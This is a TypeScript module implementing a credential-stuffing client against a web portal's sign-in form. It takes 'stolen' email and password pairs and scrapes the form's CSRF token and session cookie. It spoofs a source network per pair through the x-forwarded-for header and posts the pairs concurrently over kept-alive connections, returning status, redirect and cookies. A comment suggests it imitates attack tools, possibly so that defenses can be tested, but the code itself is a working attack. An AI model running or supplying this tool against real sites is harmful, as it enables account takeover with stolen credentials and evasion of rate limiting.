import { Agent, type IncomingHttpHeaders, request } from 'node:http'

/** One stolen pair, and the network it is tried from. */
export interface Pair {
  email: string
  password: string
  network: string
}

export interface Tried {
  status: number
  /** What the page says, or where it leads. */
  text: string
  location: string | undefined
  cookies: readonly string[]
}

/** What a network needs to post the form: its cookie and the token that is bound to it. */
interface Form {
  cookie: string
  token: string
}

/** Tries pairs on **Sign In** over kept connections, as the tools for it do: one look at the form, then posts alone. */
export function openStuffer(portalUrl: string, lanesMost: number) {
  const agent = new Agent({ keepAlive: true, maxSockets: lanesMost })
  const forms = new Map<string, Form>()
  const url = new URL('/sign-in', portalUrl)
  const send = (method: 'GET' | 'POST', headers: Record<string, string>, body = '') =>
    new Promise<{ status: number; headers: IncomingHttpHeaders; text: string }>((settle, fail) => {
      const sent = request(url, { agent, method, headers, timeout: 60_000 }, (answer) => {
        let text = ''
        answer.setEncoding('utf8').on('data', (chunk: string) => {
          text += chunk
        })
        answer.on('end', () => settle({ status: answer.statusCode ?? 0, headers: answer.headers, text })).on('error', fail)
      })
      sent.on('timeout', () => sent.destroy(new Error('no answer within a minute')))
      sent.on('error', fail)
      sent.end(body)
    })

  async function formFor(network: string): Promise<Form> {
    const known = forms.get(network)
    if (known) return known
    const { headers, text } = await send('GET', { 'x-forwarded-for': network })
    const cookie = (headers['set-cookie'] ?? []).map((line) => line.split(';')[0]).join('; ')
    const token = /name="csrf" value="([^"]+)"/.exec(text)?.[1] ?? /value="([^"]+)"[^>]*name="csrf"/.exec(text)?.[1] ?? ''
    const form = { cookie, token }
    forms.set(network, form)
    return form
  }

  async function tryPair({ email, password, network }: Pair): Promise<Tried> {
    const { cookie, token } = await formFor(network)
    const headers = {
      cookie,
      'content-type': 'application/x-www-form-urlencoded',
      'sec-fetch-site': 'same-origin',
      'x-forwarded-for': network,
    }
    const answer = await send('POST', headers, `${new URLSearchParams({ csrf: token, email, password })}`)
    const { status, text } = answer
    return { status, text, location: answer.headers.location, cookies: answer.headers['set-cookie'] ?? [] }
  }

  return {
    /** Tries them all, `lanesMost` at a time, in their order. */
    async tryAll(pairs: readonly Pair[], heard: (tried: Tried) => void): Promise<void> {
      const left = pairs.values()
      const lane = async () => {
        for (const pair of left) heard(await tryPair(pair))
      }
      await Promise.all(Array.from({ length: lanesMost }, lane))
    },
    close: () => agent.destroy(),
  }
}
